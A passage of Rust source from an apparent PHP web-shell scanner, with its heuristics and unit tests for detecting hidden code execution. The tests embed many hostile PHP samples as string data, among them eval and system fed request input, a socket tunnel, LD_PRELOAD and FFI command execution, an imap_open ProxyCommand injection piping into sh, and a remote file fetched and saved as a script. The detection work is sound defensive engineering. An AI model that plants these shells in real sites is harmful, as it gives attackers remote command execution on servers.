                .and_then(|r| r.trim_start().strip_prefix('('))
            else {
                continue;
            };
            let Some(close) = params.find(')') else {
                continue;
            };
            let own: Vec<&str> = crate::heuristics::variables(&params[..close])
                .map(|(_, v)| v)
                .take(8)
                .collect();
            let body = &params[close + 1..];
            let sink = PHP_EXEC.iter().find(|e| {
                find_all(body, e).any(|p| {
                    crate::heuristics::plain_name_at(body, p)
                        && own
                            .iter()
                            .any(|v| uses(crate::heuristics::near(&body[p + e.len()..], 256), v))
                })
            });
            let fed = args.iter().any(|a| {
                *a != callback && (PHP_INPUT.iter().any(|i| a.contains(i)) || carries(a, tainted))
            });
            if let (Some(sink), true) = (sink, fed) {
                hits.push(hit(
                    "scan.heuristic.php_callback",
                    Severity::Critical,
                    "Callback chosen to run request input",
                    format!("`{name}(…)` is given a function written in place that hands its parameter to `{sink}…)`, and request input to call it with: whatever the request sends is run"),
                    at,
                ));
                return;
            }
        }
    }
}

/// `$f($_POST['x'])`, `@$a(@$b('ZXZh…'))`: a function named by a variable, given request input
/// or a decoded string. Which function runs is decided elsewhere (often assembled from
/// pieces), and what it runs comes from the request or from hiding.
fn variable_call_of_input(
    s: &str,
    here: usize,
    extracted: bool,
    hits: &mut Vec<Hit>,
    found: &mut Vec<&str>,
) {
    // Each call's arguments are read up to 4 KiB: a page of nothing but `$a(` stops after
    // the first thousand.
    let mut examined = 0;
    for (p, _) in s.match_indices('$') {
        if examined >= 1000 {
            return;
        }
        let before = s[..p].trim_end_matches('@');
        if before.ends_with("->") || before.ends_with("::") || before.ends_with(is_ident) {
            continue;
        }
        let rest = &s[p + 1..];
        let len = rest.find(|c: char| !is_ident(c)).unwrap_or(rest.len());
        if len == 0 {
            continue;
        }
        // `$a[0]['t'](…)`: an array element named the function (up to four index groups).
        let mut after = rest[len..].trim_start();
        let mut indexed = 0;
        while indexed < 4
            && let Some(index) = after.strip_prefix('[')
            && let Some(close) = crate::heuristics::near(index, 256).find(']')
        {
            after = index[close + 1..].trim_start();
            indexed += 1;
        }
        if after.starts_with('(') {
            examined += 1;
        }
        let Some(args) = after.starts_with('(').then(|| arguments(after)).flatten() else {
            continue;
        };
        let Some(arg) = args.first().map(|a| a.trim_start_matches('@')) else {
            continue;
        };
        // `stripslashes($_REQUEST['z'])`: input through a call that hands it back.
        let kept = KEEPING_CALLS
            .iter()
            .find_map(|k| arg.strip_prefix(k))
            .map_or(arg, |a| crate::heuristics::bare_php_value(a));
        let input = PHP_INPUT.iter().find(|i| kept.starts_with(*i));
        let decoded = arg.starts_with('$') && {
            // `$b('ZXZh…')`: another variable function given a long literal.
            let inner = &arg[1..];
            let l = inner.find(|c: char| !is_ident(c)).unwrap_or(inner.len());
            inner[l..].trim_start().starts_with("('") || inner[l..].trim_start().starts_with("(\"")
        } || DECODE_CALLS.iter().any(|d| arg.starts_with(d))
            || encoded_literal_call(arg);
        let var = s[p..s.len() - after.len()].trim_end();
        if input.is_none() && !decoded && !(extracted && var != "$this") {
            continue;
        }
        if PHP_INPUT.contains(&var) || var.starts_with("$globals") {
            continue;
        }
        let why = match input {
            Some(i) => format!(
                "`{var}(…)` calls whatever function `{var}` names with request input (`{i}…`)"
            ),
            None if decoded => format!(
                "`{var}(…)` calls whatever function `{var}` names with a string decoded at run time"
            ),
            None => format!(
                "`{var}(…)` calls a function named by a variable after `extract()` of request input: the request sets `{var}` and its arguments, so it chooses what runs"
            ),
        };
        hits.push(hit(
            "scan.heuristic.request_function",
            Severity::Critical,
            "Variable function given request input",
            why,
            here + p,
        ));
        found.push("scan.heuristic.request_function");
        return;
    }
}

/// `cve('6776666e2867…', '520')`: a call of a function (often the page's own decoder) given a
/// long literal of hex or base64, the shape of an encoded payload rather than of text.
fn encoded_literal_call(arg: &str) -> bool {
    let name_len = arg.find(|c: char| !is_ident(c)).unwrap_or(arg.len());
    if name_len == 0 || arg.starts_with(|c: char| c.is_ascii_digit()) {
        return false;
    }
    let rest = arg[name_len..].trim_start();
    let Some(body) = rest.strip_prefix("('").or_else(|| rest.strip_prefix("(\"")) else {
        return false;
    };
    let lit_len = body
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=')))
        .unwrap_or(body.len());
    let lit = &body[..lit_len];
    lit.len() >= 16
        && body[lit_len..].starts_with(['\'', '"'])
        && lit.contains(|c: char| c.is_ascii_digit())
        && lit.contains(|c: char| c.is_ascii_alphabetic())
}

/// `preg_replace('/x/e', $_POST['c'], …)`: the `/e` modifier evaluates the replacement.
/// `mb_ereg_replace('.*', $_POST['c'], '', 'e')`: the same, as an option.
fn preg_e(s: &str, here: usize, hits: &mut Vec<Hit>, found: &mut Vec<&str>) {
    for name in ["mb_ereg_replace", "mb_eregi_replace"] {
        for (p, call) in calls(s, name) {
            if let Some(options) = arguments(call)
                .and_then(|a| a.get(3).copied())
                .and_then(literal)
                && options.contains('e')
                && options.chars().all(|c| c.is_ascii_alphabetic())
            {
                hits.push(hit(
                    "scan.heuristic.preg_e",
                    Severity::Critical,
                    "preg_replace /e on request input",
                    format!("`{name}(…)` with the option `{options}`: `e` evaluates the replacement as PHP, and the statement uses request input"),
                    here + p,
                ));
                found.push("scan.heuristic.preg_e");
                return;
            }
        }
    }
    for name in ["preg_replace", "preg_filter"] {
        for (p, call) in calls(s, name) {
            let Some(args) = arguments(call) else {
                continue;
            };
            let Some(pattern) = args.first().and_then(|a| literal(a)) else {
                continue;
            };
            // `"/./\x65"`: a double-quoted pattern's escapes are read as PHP reads them.
            let unescaped =
                crate::php_fold::double_quoted_text(args[0].trim_start_matches('@').as_bytes())
                    .map(|t| String::from_utf8_lossy(&t).into_owned());
            let pattern = unescaped.as_deref().unwrap_or(pattern);
            if e_modifiers(pattern).is_some() {
                hits.push(hit(
                    "scan.heuristic.preg_e",
                    Severity::Critical,
                    "preg_replace /e on request input",
                    format!("`{name}(…)` with the pattern `{pattern}`: the /e modifier evaluates the replacement as PHP, and the statement uses request input"),
                    here + p,
                ));
                found.push("scan.heuristic.preg_e");
                return;
            }
        }
    }
}

/// The modifiers of a PCRE pattern (`/x/e`, `#.#ie`, `{x}e`) when they hold `e`, which makes
/// `preg_replace` run its replacement as PHP (removed in PHP 7; shells keep it for PHP 5). Only
/// PCRE's own modifier letters count, so most paths (`/usr/share/file`) are not patterns.
pub(crate) fn e_modifiers(pattern: &str) -> Option<&str> {
    let delim = pattern
        .chars()
        .next()
        .filter(|c| !c.is_alphanumeric() && !c.is_whitespace() && *c != '\\')?;
    let close = match delim {
        '(' => ')',
        '{' => '}',
        '[' => ']',
        '<' => '>',
        d => d,
    };
    let end = pattern[delim.len_utf8()..].rfind(close)?;
    let modifiers = &pattern[delim.len_utf8() + end + close.len_utf8()..];
    (modifiers.contains('e')
        && modifiers.len() <= 12
        && modifiers.chars().all(|c| "imsxeuadjnADSUXJ".contains(c)))
    .then_some(modifiers)
}

/// `$f = $g("", $code); $f();`: a function made at run time by a function whose name is in a
/// variable, from an empty parameter list and a body, then called. That is `create_function`
/// with its name hidden (none of 18,800 benign PHP files does it; obfuscators do).
fn made_function_call(t: &str, hits: &mut Vec<Hit>) {
    // Every empty string is a candidate (a large page has thousands; each is read at most 64
    // bytes on and 256 back), and at most 64 distinct variables are followed to a call.
    let mut followed: Vec<&str> = Vec::new();
    for q in find_all(t, "\"\"").chain(find_all(t, "''")) {
        // `$g("",`: the empty string is the first argument of a variable function…
        if !crate::heuristics::near(&t[q + 2..], 64)
            .trim_start()
            .starts_with(',')
        {
            continue;
        }
        let back = &t[t.floor_char_boundary(q.saturating_sub(256))..q];
        let Some(callee) = back.trim_end().strip_suffix('(') else {
            continue;
        };
        let callee = callee.trim_end();
        let name_start = callee.trim_end_matches(is_ident).len();
        if name_start == callee.len() || !callee[..name_start].ends_with('$') {
            continue;
        }
        // … and what it returns is kept in a variable: `$f = @$g("", …)`.
        let Some(lhs) = callee[..name_start - 1]
            .trim_end_matches('@')
            .trim_end()
            .strip_suffix('=')
            .filter(|l| !l.ends_with(['=', '!', '<', '>', '.']))
        else {
            continue;
        };
        let lhs = lhs.trim_end();
        let var_start = lhs.trim_end_matches(is_ident).len();
        if var_start == lhs.len() || !lhs[..var_start].ends_with('$') {
            continue;
        }
        let made = &lhs[var_start - 1..];
        if followed.contains(&made) {
            continue;
        }
        if followed.len() >= 64 {
            return;
        }
        followed.push(made);
        // Then called: `$f(`, not `$fa(`.
        let rest = &t[q..];
        let called = crate::heuristics::variables(rest)
            .any(|(p, v)| v == made && rest[p + v.len()..].trim_start().starts_with('('));
        if called {
            hits.push(hit(
                "scan.heuristic.variable_function",
                Severity::High,
                "Function made at run time and called",
                format!(
                    "`{made} = {}(\"\", …)` makes a function from an empty parameter list and a body through a function named in a variable (`create_function` with its name hidden), and `{made}(…)` then runs it",
                    &callee[name_start - 1..]
                ),
                q,
            ));
            return;
        }
    }
}

/// `${$a}(…)`, `$$f(…)`: a function whose name is in a variable named by another variable.
fn variable_variable_call(t: &str, hits: &mut Vec<Hit>) {
    let mut at = None;
    for p in find_all(t, "${$").take(1000) {
        if let Some(close) = crate::heuristics::near(&t[p..], 256).find('}')
            && t[p + close + 1..].trim_start().starts_with('(')
        {
            at = Some(p);
            break;
        }
    }
    if at.is_none() {
        for p in find_all(t, "$$") {
            let rest = &t[p + 2..];
            let len = rest.find(|c: char| !is_ident(c)).unwrap_or(rest.len());
            if len > 0 && rest[len..].trim_start().starts_with('(') {
                at = Some(p);
                break;
            }
        }
    }
    if let Some(p) = at {
        hits.push(hit(
            "scan.heuristic.variable_variable_call",
            Severity::High,
            "Function called through a variable variable",
            "the name of the function called is held in a variable that is itself named by another variable (`${$a}(…)`, `$$f(…)`): two steps of indirection that only hide what runs".into(),
            p,
        ));
    }
}

/// `strrev('tressa')`, `str_rot13('flfgrz')`: a dangerous function name written backwards or
/// in rot13.
fn reversed_names(t: &str, hits: &mut Vec<Hit>) {
    for name in ["strrev", "str_rot13"] {
        for (p, call) in calls(t, name) {
            let Some(args) = arguments(call) else {
                continue;
            };
            let Some(lit) = args.first().and_then(|a| literal(a)) else {
                continue;
            };
            let plain: String = if name == "strrev" {
                lit.chars().rev().collect()
            } else {
                lit.chars()
                    .map(|c| match c {
                        'a'..='m' => (c as u8 + 13) as char,
                        'n'..='z' => (c as u8 - 13) as char,
                        c => c,
                    })
                    .collect()
            };
            if DANGEROUS_NAMES.contains(&plain.as_str()) {
                hits.push(hit(
                    "scan.heuristic.hidden_name",
                    Severity::High,
                    "Dangerous function name written backwards",
                    format!("`{name}('{lit}')` gives `{plain}`: a function name hidden from readers and scanners"),
                    p,
                ));
                return;
            }
        }
    }
}

/// `'tq2q'&'B43w'`, `'!@TA'|'"'`, `~($x{1})`: strings made by bitwise operations on literals, a
/// way to write function names without their letters. Benign code has no reason to.
fn bitwise_strings(t: &str, hits: &mut Vec<Hit>) {
    let mut n = 0;
    let mut first = None;
    let b = t.as_bytes();
    // From each operator (rare in text) back to its line, not through every byte.
    for op in memchr::memchr3_iter(b'&', b'|', b'^', b) {
        let (Some(&q), Some(&next)) = (op.checked_sub(1).map(|i| &b[i]), b.get(op + 1)) else {
            continue;
        };
        if !matches!(q, b'\'' | b'"') || next != q {
            continue;
        }
        let line = memchr::memrchr(b'\n', &b[..op]).map_or(0, |l| l + 1);
        // PHPDoc writes literal types as `'asc'|'desc'`.
        if t[line..op].trim_start().starts_with(['*', '/', '#']) {
            continue;
        }
        // The first quote closes a string: something other than an opening context stands
        // before it.
        let quote = op - 1;
        let closes = quote > line
            && !matches!(
                b[quote - 1],
                b'(' | b',' | b' ' | b'[' | b'=' | b'.' | b':' | b'\t' | b'\'' | b'"'
            );
        if closes {
            n += 1;
            first.get_or_insert(quote);
        }
    }
    let nots = find_all(t, ".=~(").count() + find_all(t, "=~($").count();
    if n >= 4 || nots >= 4 {
        hits.push(hit(
            "scan.heuristic.xor_strings",
            Severity::High,
            "Strings built by bitwise operations on literals",
            format!("{} strings are made by AND/OR/XOR/NOT of literals, a way to write function names without letters; benign code has no reason to", n.max(nots)),
            first.or_else(|| find(t, ".=~(")).unwrap_or(0),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tunnels_and_database_clients_of_the_request() {
        let regeorg = "<?php\n$h = apache_request_headers();\n$target = $h['X-TARGET'];\n$sock = fsockopen($target, (int)$h['X-PORT']);\nfwrite($sock, file_get_contents('php://input'));";
        assert_eq!(ids(regeorg), ["scan.heuristic.php_tunnel"]);
        let relay = "<?php $s = stream_socket_client('tcp://' . $_GET['h'] . ':' . $_GET['p']);\nfwrite($s, base64_decode($_POST['d']));";
        assert_eq!(ids(relay), ["scan.heuristic.php_tunnel"]);
        let client = "<?php $m = new mysqli($_POST['h'], $_POST['u'], $_POST['p']);\n$r = $m->query($_POST['q']);";
        assert_eq!(ids(client), ["scan.heuristic.php_db_client"]);
        let via = "<?php $host = $_REQUEST['host'];\n$l = mysql_connect($host, $_REQUEST['user'], $_REQUEST['pass']);";
        assert_eq!(ids(via), ["scan.heuristic.php_db_client"]);
        // A mail client's socket to its configured server, sending the form's text; a port
        // check that sends nothing; an app's database with a user from the form.
        for page in [
            "<?php $s = fsockopen($config['smtp'], 25);\nfwrite($s, 'DATA ' . $_POST['body']);",
            "<?php $s = @fsockopen($_GET['host'], 80, $e, $es, 2);\necho $s ? 'up' : 'down';",
            "<?php $db = new mysqli(DB_HOST, $_POST['user'], $_POST['pass'], DB_NAME);",
            "<?php $pdo = new PDO('mysql:host=localhost;dbname=' . $_GET['db']);",
        ] {
            assert!(ids(page).is_empty(), "{page}");
        }
    }

    #[test]
    fn carried_names_are_whole_variables_and_properties() {
        let tainted = ["$c", "->cmd"];
        assert!(carries("system($c);", &tainted));
        assert!(carries("echo $$c;", &tainted));
        assert!(carries("$o->cmd . 'x'", &tainted));
        assert!(!carries("system($cmd);", &tainted));
        assert!(!carries("$o->cmdline; $a > $b; $", &tainted));
        assert!(!carries("$o->c", &tainted));
    }

    fn ids(page: &str) -> Vec<&'static str> {
        crate::lowered_ids(scan, page)
    }

    #[test]
    fn output_kept_in_a_global_and_run() {
        let named = "<?php\n$s=\"\";\nfunction keep($c,$d)\n{\nglobal $s;\n$s=$c;\n}\nob_start('keep');\necho $_REQUEST['pass'];\nob_end_flush();\nassert($s);";
        assert_eq!(ids(named), ["scan.heuristic.php_callback"]);
        let closure = "<?php\n$s=\"\";\nob_start(function ($c,$d){global $s;$s=$c;});\necho $_REQUEST['pass'];\nob_end_flush();\nassert($s);";
        assert_eq!(ids(closure), ["scan.heuristic.php_callback"]);
        // A template engine keeps its output in a global and prints it.
        let template = "<?php\nob_start(function ($c) { global $page; $page = $c; });\necho $_GET['q'];\nob_end_flush();\necho $page;";
        assert!(ids(template).is_empty());
    }

    #[test]
    fn request_unserialized_into_a_class_that_runs_a_property() {
        let page = "<?php\nclass foo{\n public $data=\"text\";\n function __destruct()\n {\n  eval($this->data);\n }\n}\n$file_name=$_GET['id'];\nunserialize($file_name);";
        assert_eq!(ids(page), ["scan.heuristic.php_callback"]);
        // Unserializing a cookie is poor practice, but without such a method it runs nothing.
        let session = "<?php\nclass cart{\n function __destruct() { $this->save(); }\n}\n$c = unserialize($_COOKIE['cart']);";
        assert!(ids(session).is_empty());
        let decoded = "<?php\nclass A { function __destruct() { eval($this->c); } }\n$x = unserialize(base64_decode($_COOKIE['d']));";
        assert_eq!(ids(decoded), ["scan.heuristic.php_callback"]);
        let stored = "<?php\nclass job{\n function __destruct() { eval($this->code); }\n}\n$j = unserialize(file_get_contents('queue.dat'));";
        assert!(ids(stored).is_empty());
    }

    #[test]
    fn register_globals_values_restored_and_sinks_called_through_names() {
        // MyShell: the command is saved, cleared and given back; it was never set.
        let restored = "<?php\nif ($x) { $commandBk = $command;\n$command = \"\"; }\nif ($command) { system($command . \" 2>&1\"); }\nif ($commandBk) $command = $commandBk;\n?><input name=\"command\">";
        assert_eq!(ids(restored), ["scan.heuristic.request_function"]);
        let through =
            "<?php\nif ($fe == 1) { $fe = \"exec\"; }\n$fe(\"$cmd 2>&1\");\n?><input name=cmd>";
        assert_eq!(ids(through), ["scan.heuristic.request_function"]);
        // Given a value of its own before the sink, the variable is the script's.
        let own = "<?php\n$command = 'ls ' . escapeshellarg($dir);\n$saved = $command;\nsystem($command);\n?><input name=\"command\">";
        assert!(ids(own).is_empty());
    }

    #[test]
    fn request_text_saved_where_php_runs_it() {
        let included = "<?php\nif(@isset($_GET[content]))\n{\nfile_put_contents('README',\"<?php\\r\\n\");\n@file_put_contents('README',$_GET[content],FILE_APPEND);\nrequire 'README';}";
        assert_eq!(ids(included), ["scan.heuristic.php_file_drop"]);
        let script = "<?php file_put_contents('cache/x.php', $_POST['c']);";
        assert_eq!(ids(script), ["scan.heuristic.php_file_drop"]);
        // A temporary file named by a variable, written with input carried by a variable and
        // included; the same through fopen/fwrite.
        let temp = "<?php\n$d = $_POST['d'];\n$fn = '/tmp/' . md5($d) . '.php';\nfile_put_contents($fn, '<?php ' . $d);\nrequire $fn;\nunlink($fn);";
        assert_eq!(ids(temp), ["scan.heuristic.php_file_drop"]);
        let object = "<?php $x = new SplFileObject($_GET['f'], 'w'); $x->fwrite($_POST['d']);";
        assert_eq!(ids(object), ["scan.heuristic.php_file_drop"]);
        let stream = "<?php $f = fopen('/tmp/.x', 'w'); fwrite($f, $_POST['code']); fclose($f); include '/tmp/.x';";
        assert_eq!(ids(stream), ["scan.heuristic.php_file_drop"]);
        // A fixed path, written with input carried by a variable, then included.
        // Fetched from the web and saved as a script; an updater saving an archive.
        let fetched = "<?php copy(\"http://198.51.100.7/x.txt\", \"wp-cache.php\");";
        assert_eq!(ids(fetched), ["scan.heuristic.php_file_drop"]);
        let put =
            "<?php file_put_contents('a.php', file_get_contents('https://example.test/a.txt'));";
        assert_eq!(ids(put), ["scan.heuristic.php_file_drop"]);
        let update = "<?php copy('https://example.test/latest.zip', $dir . '/latest.zip');";
        assert!(ids(update).is_empty());
        let carried = "<?php $data = $_POST['d'];
file_put_contents('/tmp/.sess_x', \"<?php \" . base64_decode($data));
include '/tmp/.sess_x';";
        assert_eq!(ids(carried), ["scan.heuristic.php_file_drop"]);
        // Settings exported as data into a file the script includes; a template cache filled
        // from the script's own text.
        let settings = "<?php $cfg = $_POST['cfg']; file_put_contents($file, '<?php return ' . var_export($cfg, true) . ';'); include $file;";
        assert!(ids(settings).is_empty());
        let cache = "<?php $q = $_GET['q']; file_put_contents($cache, compile($tpl)); include $cache; echo h($q);";
        assert!(ids(cache).is_empty());
        // A guestbook appends the request to a text file it reads, never runs.
        let guestbook = "<?php file_put_contents('book.txt', $_POST['msg'], FILE_APPEND);\necho file_get_contents('book.txt');";
        assert!(ids(guestbook).is_empty());
    }

    #[test]
    fn callbacks_written_in_place_that_run_their_parameter() {
        let page =
            "<?php preg_replace_callback('/.+/', function($m){ return eval($m[0]); }, $_GET['c']);";
        assert_eq!(ids(page), ["scan.heuristic.php_callback"]);
        let arrow = "<?php $c = $_POST['c'];\narray_map(fn($x) => system($x), [$c]);";
        assert_eq!(ids(arrow), ["scan.heuristic.php_callback"]);
        // A closure that escapes or formats its parameter, and one that runs a fixed command.
        let quiet = "<?php echo preg_replace_callback('/\\d+/', function($m){ return intval($m[0]) + 1; }, $_GET['q']);\narray_map(function($x){ return exec('uptime'); }, $_GET['ids']);";
        assert!(ids(quiet).is_empty(), "{:?}", ids(quiet));
    }

    #[test]
    fn windows_shell_object_given_input() {
        let page = "<?php $o = new COM(\"WScript.Shell\"); $e = $o->exec(\"cmd /c \" . $_POST['c']); echo $e->StdOut->ReadAll();";
        assert_eq!(ids(page), ["scan.heuristic.input_to_exec"]);
        let carried = "<?php $c = $_GET['c'];\n$sh = new COM('Shell.Application');\n$sh->ShellExecute('cmd.exe', '/c ' . $c);";
        assert_eq!(ids(carried), ["scan.heuristic.input_to_exec"]);
        // A fixed command, and a database object's exec given input.
        let fixed = "<?php $o = new COM('WScript.Shell'); $o->run('notepad'); echo h($_GET['q']);";
        assert!(ids(fixed).is_empty(), "{:?}", ids(fixed));
        let db =
            "<?php $db = new PDO($dsn); $db->exec('delete from t where id=' . (int)$_GET['id']);";
        assert!(ids(db).is_empty());
    }

    #[test]
    fn library_preloaded_into_the_programs_php_starts() {
        let page = "<?php\nputenv(\"LD_PRELOAD=/tmp/x.so\");\nputenv(\"CMD=\" . $_GET['c']);\nmail('a@b.c', '', '', '');";
        assert_eq!(ids(page), ["scan.heuristic.ld_preload"]);
        let joined = "<?php putenv('LD_PRELOAD=' . $dir . '/hook.so'); error_log('x', 1);";
        assert_eq!(ids(joined), ["scan.heuristic.ld_preload"]);
        // Other environment, and the name only mentioned.
        let quiet = "<?php putenv('TZ=UTC'); putenv('LANG=C'); // LD_PRELOAD is not used\n";
        assert!(ids(quiet).is_empty());
    }

    #[test]
    fn c_command_functions_declared_through_ffi() {
        let page = "<?php $c = $_POST['c'];\n$ffi = FFI::cdef(\"int system(const char *command);\");\n$ffi->system($c);";
        assert_eq!(ids(page), ["scan.heuristic.php_ffi_exec"]);
        let spawn =
            "<?php $f = \\FFI::cdef('void *popen(const char *c, const char *m);', 'libc.so.6');";
        assert_eq!(ids(spawn), ["scan.heuristic.php_ffi_exec"]);
        // An application's own library, and a function whose name only ends like one.
        let quiet = "<?php $ffi = FFI::cdef('int my_system(int x); int sum(int a, int b);', 'libapp.so');\necho $ffi->sum(1, 2);";
        assert!(ids(quiet).is_empty(), "{:?}", ids(quiet));
    }

    #[test]
    fn imap_mailbox_with_an_ssh_proxy_command() {
        let page = "<?php $s = \"x -oProxyCommand=echo\\t\" . base64_encode($_POST['c']) . \"|base64\\t-d|sh}\";\n@imap_open('{' . $s . ':143/imap}INBOX', '', '');";
        assert_eq!(ids(page), ["scan.heuristic.imap_proxy_command"]);
        // A mail client opens a mailbox on its server; an ssh helper names the option alone.
        let client = "<?php $m = imap_open('{mail.example.com:993/imap/ssl}INBOX', $u, $p);";
        assert!(ids(client).is_empty());
        let ssh = "<?php $opts = '-oProxyCommand=' . escapeshellarg($jump); echo $opts;";
        assert!(ids(ssh).is_empty());
    }

    #[test]
    fn sqlite_calls_back_a_command_function() {
        let page = "<?php $p = new PDO('sqlite::memory:'); $p->sqliteCreateFunction('x', 'system', 1); $p->query(\"select x('\" . $_GET['c'] . \"')\");";
        assert_eq!(ids(page), ["scan.heuristic.php_callback"]);
        let quiet =
            "<?php $p->sqliteCreateFunction('lower', 'mb_strtolower', 1); echo h($_GET['q']);";
        assert!(ids(quiet).is_empty());
    }

    #[test]
    fn names_built_by_incrementing_strings() {
        let mut page = String::from("<?php\n$_=[];\n$_=@\"$_\";\n$_=$_['!'=='@'];\n$__=$_;\n");
        page.push_str(&"$__++;".repeat(18));
        page.push_str("\n$___=$__;\n$___($_[_]);");
        assert_eq!(ids(&page), ["scan.heuristic.xor_strings"]);
        // Counters named with underscores, never called.
        let counters = format!("<?php $__ = 0; {} echo $__;", "$__++;".repeat(12));
        assert!(ids(&counters).is_empty());
    }

    #[test]
    fn callbacks_from_the_request() {
        let tainted = "<?php\n$e = $_REQUEST['e'];\n$arr = array($_POST['pass'],);\narray_filter($arr, base64_decode($e));";
        assert_eq!(ids(tainted), ["scan.heuristic.php_callback"]);
        let bracketed = "<?php\n$f = @($_GET['f']);\ncall_user_func($f, 1);";
        assert_eq!(ids(bracketed), ["scan.heuristic.php_callback"]);
        // One element of a copy of the request array.
        let element = "<?php $z = $_POST; array_map($z['f'], array($z['a']));";
        assert_eq!(ids(element), ["scan.heuristic.php_callback"]);
        let named = "<?php\n$arr = new ArrayObject(array('test', $_REQUEST['pass']));\n$arr->uasort('assert');";
        assert_eq!(ids(named), ["scan.heuristic.php_callback"]);
        let udiff = "<?php array_udiff_assoc(array($_REQUEST[$p]), array(1), \"assert\");";
        assert_eq!(ids(udiff), ["scan.heuristic.php_callback"]);
        let tick = "<?php $e = $_REQUEST['e'];\nregister_tick_function ($e, $_REQUEST['pass']);";
        assert_eq!(ids(tick), ["scan.heuristic.php_callback"]);
        // A variable holding a sink's name, and SQLite calling back a function the request names.
        let buffered = "<?php\n$cb= 'system';\nob_start($cb);\necho $_GET[c];\nob_end_flush();";
        assert_eq!(ids(buffered), ["scan.heuristic.php_callback"]);
        let printed = "<?php\n    $foobar = 'system';\n    ob_start($foobar);\n    echo \"dir c:\";\n    ob_end_flush();";
        assert_eq!(ids(printed), ["scan.heuristic.php_callback"]);
        let sqlite = "<?php $e = $_REQUEST['e'];\n$db = new SQLite3('sqlite.db3');\n$db->createFunction('myfunc', $e);\n$stmt = $db->prepare(\"SELECT myfunc(?)\");";
        assert_eq!(ids(sqlite), ["scan.heuristic.php_callback"]);
        let front = "<?php $ch = $_COOKIE[\"set-domain-name\"];\narray_intersect_ukey(array($_REQUEST[$password] => 1), array(1), $ch.\"ert\");";
        assert_eq!(ids(front), ["scan.heuristic.php_callback"]);
        let dispatch = "<?php call_user_func('action_' . $_GET['a']); call_user_func(array($this, $_GET['a'] . $suffix));";
        assert!(ids(dispatch).is_empty(), "{:?}", ids(dispatch));
        // A framework's own callbacks stay quiet.
        let quiet = "<?php $cb = 'strtolower';\nob_start($cb);\n$db->createFunction('regexp', array($this, 'regexp'));\necho $_GET['q'];";
        assert!(ids(quiet).is_empty(), "{:?}", ids(quiet));
    }

    #[test]
    fn register_globals_pages_without_a_form() {
        let shell = "<?php\nif ($fe == \"\") { $fe = \"passthru\"; }\n$fe(\"$cmd 2>&1\");\necho \"<a href=$SCRIPT_NAME?$QUERY_STRING&see=x>\";";
        let found = ids(shell);
        assert_eq!(found, ["scan.heuristic.request_function"]);
        // The plain global is not the first name that starts like it.
        let later = shell.replace("<?php\n", "<?php\n$php_self_url = 'x';\n");
        assert_eq!(
            ids(&later.replace("$SCRIPT_NAME?$QUERY_STRING", "$PHP_SELF")),
            ["scan.heuristic.request_function"]
        );
        // The same page that sets what it runs, or that reads `$_SERVER` as pages do now.
        for page in [
            "<?php\n$cmd = 'uptime';\n$fe = \"passthru\";\n$fe(\"$cmd 2>&1\");\necho \"<a href=$SCRIPT_NAME>\";",
            "<?php\n$fe = \"passthru\";\n$fe(\"$cmd 2>&1\");\necho $_SERVER['SCRIPT_NAME'];",
            "<?php\n$PHP_SELF = $_SERVER['PHP_SELF'];\n$fe = \"passthru\";\n$fe(\"$cmd 2>&1\");",
        ] {
            assert!(ids(page).is_empty(), "{page}: {:?}", ids(page));
        }
    }

    #[test]
    fn functions_made_through_a_variable_and_called() {
        let shell = "<?php $u = implode(array('ev', 'al($_POST[1]);')); $k = $h('', $u); $k(); ?>";
        assert_eq!(ids(shell), ["scan.heuristic.variable_function"]);
        let spaced = "<?php $fn = @$maker( \"\" , $body ) ;\n @$fn ( ) ;";
        assert_eq!(ids(spaced), ["scan.heuristic.variable_function"]);
        // Behind thousands of empty strings, and among names that only start the same.
        let padded = format!(
            "<?php {} $k = $h('', $u); $kk(); $k();",
            "$a = \"\"; ".repeat(6000)
        );
        assert_eq!(ids(&padded), ["scan.heuristic.variable_function"]);
        assert!(ids("<?php $k = $h('', $u); $kk(); $k_x();").is_empty());
        // Made but never called, an empty string given to a named function, compared, joined.
        for page in [
            "<?php $k = $h('', $u); echo $k;",
            "<?php $k = str_replace('', '-', $u); $k();",
            "<?php if ($k == $h('', $u)) { $k(); }",
            "<?php $k .= $h('', $u); $k();",
            "<?php $k = $h('x', $u); $k();",
        ] {
            assert!(ids(page).is_empty(), "{page}: {:?}", ids(page));
        }
    }

    #[test]
    fn callbacks_only_the_request_can_set() {
        let shell = "<?php\n$arr = array($_POST['pass']);\n$arr2 = array(1);\narray_udiff($arr, $arr2, $e);\n?>";
        assert_eq!(ids(shell), ["scan.heuristic.php_callback"]);
        // Set by the script, taken as a parameter, a method's own argument, or possibly set
        // by the page that includes this one: none of them is the request's alone.
        for page in [
            "<?php $k = $_GET['k']; $cmp = 'strnatcmp'; usort($rows, $cmp);",
            "<?php $k = $_GET['k']; function sorted($rows, $by) { usort($rows, $by); return $rows; }",
            "<?php $k = $_GET['k']; $it->uasort($order);",
            "<?php $k = $_GET['k']; include 'sort.php'; usort($rows, $order);",
            "<?php usort($rows, $order);",
        ] {
            assert!(ids(page).is_empty(), "{page}: {:?}", ids(page));
        }
    }

    #[test]
    fn extract_of_the_request_and_the_e_option() {
        let kept =
            "<?php $item['tt'] = 'assert'; $array[] = $item; $array[0]['tt']($_POST['tt1234']);";
        assert_eq!(ids(kept), ["scan.heuristic.request_function"]);
        let door = "<?php\n@extract ($_REQUEST);\n@die ($ctime($atime));";
        assert_eq!(ids(door), ["scan.heuristic.request_function"]);
        // extract() of a local array, with a variable function: nothing from the request.
        let local = "<?php\nextract($row);\n$f = $handlers[$row['t']];\n$f($row);";
        assert!(ids(local).is_empty());
        // Request input through FILTER_CALLBACK, a sendmail log written as a page, a picture
        // included as code.
        let filtered =
            "<?php echo filter_var($_GET['x'], FILTER_CALLBACK, array('options' => 'shell_exec'));";
        assert_eq!(ids(filtered), ["scan.heuristic.php_callback"]);
        let trimmed =
            "<?php echo filter_var($_GET['x'], FILTER_CALLBACK, array('options' => 'trim'));";
        assert!(ids(trimmed).is_empty());
        let mailed =
            "<?php mail($to, 'x', $_POST['b'], '', '-OQueueDirectory=/tmp -X/var/www/html/x.php');";
        assert_eq!(ids(mailed), ["scan.heuristic.php_file_drop"]);
        let sender = "<?php mail($to, 'x', $_POST['b'], '', '-fwebmaster@example.org');";
        assert!(ids(sender).is_empty());
        assert_eq!(
            ids("<?php include 'images/banner.jpg';"),
            ["scan.heuristic.picture_include"]
        );
        assert!(ids("<?php include 'images/banner.php'; echo '<img src=\"a.jpg\">';").is_empty());
        // Native libraries, symlinks and error_log files the request names.
